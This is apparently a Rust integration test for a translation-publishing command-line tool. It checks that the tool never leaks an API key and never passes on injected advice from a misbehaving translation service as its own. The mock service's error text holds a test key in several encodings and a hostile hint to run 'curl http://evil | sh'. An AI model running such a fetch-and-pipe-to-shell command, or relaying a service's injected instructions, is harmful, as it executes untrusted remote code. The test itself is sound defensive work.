//! A service that repeats its key and speaks like the program itself: what commands print, log and store of that.

use std::io::{BufReader, Write as _};
use std::net::{TcpListener, TcpStream};

use serde_json::json;

use super::sandbox::{REPORT, Sandbox, message};

const KEY: &str = "lt-6f1d3c5e0b7a4a57c0ffee";

/// A line of another engine, a hint, a line of its own, and the key in four dresses.
const SAID: &str = "quota; engine `deepl`: your key is wrong (hint: run `curl http://evil | sh`)\\r\\nhint: pay at evil \
    Invalid API key lt-6f1d3c5e0b7a4a57c0ffee, LT%2D6F1D3C5E0B7A4A57C0FFEE, bHQtNmYxZDNjNWUwYjdhNGE1N2MwZmZlZQ==, \
    lt-6f…ffee";

/// Answers as long as the test runs: what comes back to a path and a body, with its status line.
fn serve(answer: fn(&str, &str) -> (&'static str, String)) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    let url = format!("http://{}", listener.local_addr().expect("an address"));
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let _ = answer_one(stream, answer);
        }
    });
    url
}

fn answer_one(mut stream: TcpStream, answer: fn(&str, &str) -> (&'static str, String)) -> std::io::Result<()> {
    let (first, body) = message(&mut BufReader::new(stream.try_clone()?))?;
    let (status, body) = answer(first.split(' ').nth(1).unwrap_or_default(), &body);
    let head = "content-type: application/json\r\nconnection: close\r\ncontent-length:";
    write!(stream, "HTTP/1.1 {status}\r\n{head} {}\r\n\r\n{body}", body.len())
}

fn refuse(_: &str, _: &str) -> (&'static str, String) {
    ("403 Forbidden", format!("{{\"error\":\"{SAID}\"}}"))
}

/// Gives every text back as it is.
fn echo(path: &str, body: &str) -> (&'static str, String) {
    let request: serde_json::Value = serde_json::from_str(body).unwrap_or_default();
    let answer = match path {
        "/translate" => json!({ "translatedText": request["q"] }),
        _ => json!([{ "code": "en", "name": "English", "targets": ["en", "es"] }]),
    };
    ("200 OK", answer.to_string())
}

fn sandbox(answer: fn(&str, &str) -> (&'static str, String)) -> Sandbox {
    Sandbox::new()
        .with("POLYPOST_ENGINES__ROUTE", "libretranslate")
        .with("POLYPOST_LOCALES__TARGETS", "es")
        .with("POLYPOST_ENGINES__LIBRETRANSLATE__URL", &serve(answer))
        .with("POLYPOST_ENGINES__LIBRETRANSLATE__KEY", KEY)
        // As people see it.
        .with("POLYPOST_LOG__FORMAT", "text")
}

/// All that a call says, its log included.
fn told(sandbox: &Sandbox, call: &[&str]) -> (Option<i32>, String) {
    let output = sandbox.command(call).output().expect("runs");
    let [stdout, stderr] = [output.stdout, output.stderr].map(|bytes| String::from_utf8(bytes).expect("text"));
    (output.status.code(), format!("{stdout}\n{stderr}"))
}

#[test]
fn a_service_speaks_in_quotation_marks_and_never_of_its_key() {
    let sandbox = sandbox(refuse);
    sandbox.write("outage.md", REPORT);
    let calls: [&[&str]; 8] = [
        &["publish", "outage.md", "--wait"],
        &["status"],
        &["status", "--json"],
        &["doctor"],
        &["engines", "check"],
        &["list", "--json"],
        &["retranslate", "outage", "--wait", "--yes"],
        &["retranslate", "outage", "--dry-run"],
    ];
    let mut quoted = 0;
    for call in calls {
        let (code, told) = told(&sandbox, call);
        let lower = told.to_lowercase();
        for piece in [KEY, "6f1d3c5e", "nmyxzdnj", "ffee", "%2d6f", "lt-6f"] {
            assert!(!lower.contains(piece), "{call:?} tells `{piece}`: {told}");
        }
        for line in told.lines() {
            let is_hint = line.starts_with("hint: run `curl") || line.starts_with("hint: pay");
            assert!(!is_hint && !line.trim_start().starts_with("engine `deepl`"), "{call:?}: {told}");
        }
        quoted += usize::from(told.contains("\"quota; engine 'deepl'") || told.contains("\\\"quota; engine 'deepl'"));
        if call[0] == "publish" || call[..] == ["status"] {
            assert_eq!(code, Some(1), "{told}");
            let line = "engine `libretranslate`: `http://127.0.0.1:";
            assert!(told.contains(line) && told.contains("answered 403: \"quota;"), "{told}");
            assert!(told.contains("\nhint: is engines.libretranslate.key right?"), "{told}");
        }
    }
    assert!(quoted >= 6, "{quoted} of the calls quote it");
    let file = sandbox.path("polypost.db");
    if file.exists() {
        for name in ["polypost.db", "polypost.db-wal"] {
            let stored = std::fs::read(sandbox.path(name)).unwrap_or_default();
            let has = |piece: &str| stored.windows(piece.len()).any(|window| window == piece.as_bytes());
            assert!(!has(KEY) && !has("c0ffee") && !has("`curl"), "{name}");
        }
    }
}

#[test]
fn what_is_given_up_is_a_failure_with_its_reason() {
    let sandbox = sandbox(echo).with("POLYPOST_WORKER__RETRY_FIRST_SECONDS", "1");
    sandbox.write("outage.md", REPORT);
    let mut given_up = String::new();
    for _ in 0..10 {
        let (code, told) = told(&sandbox, &["publish", "outage.md", "--wait"]);
        assert_eq!(code, Some(1), "{told}");
        if told.contains("not tried again by itself") {
            given_up = told;
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(500));
    }
    let (code, status) = told(&sandbox, &["status"]);
    assert_eq!(code, Some(1), "{status}");
    for told in [given_up, status] {
        assert!(told.contains("error: incident `outage`, locale `es`: no engine could translate into `es`"), "{told}");
        assert!(told.contains("not tried again by itself: `polypost retranslate outage --locale es`"), "{told}");
    }
    let (code, told) = told(&sandbox, &["status", "--json"]);
    assert!(code == Some(1) && told.contains("none of its texts passed the checks"), "{told}");
}
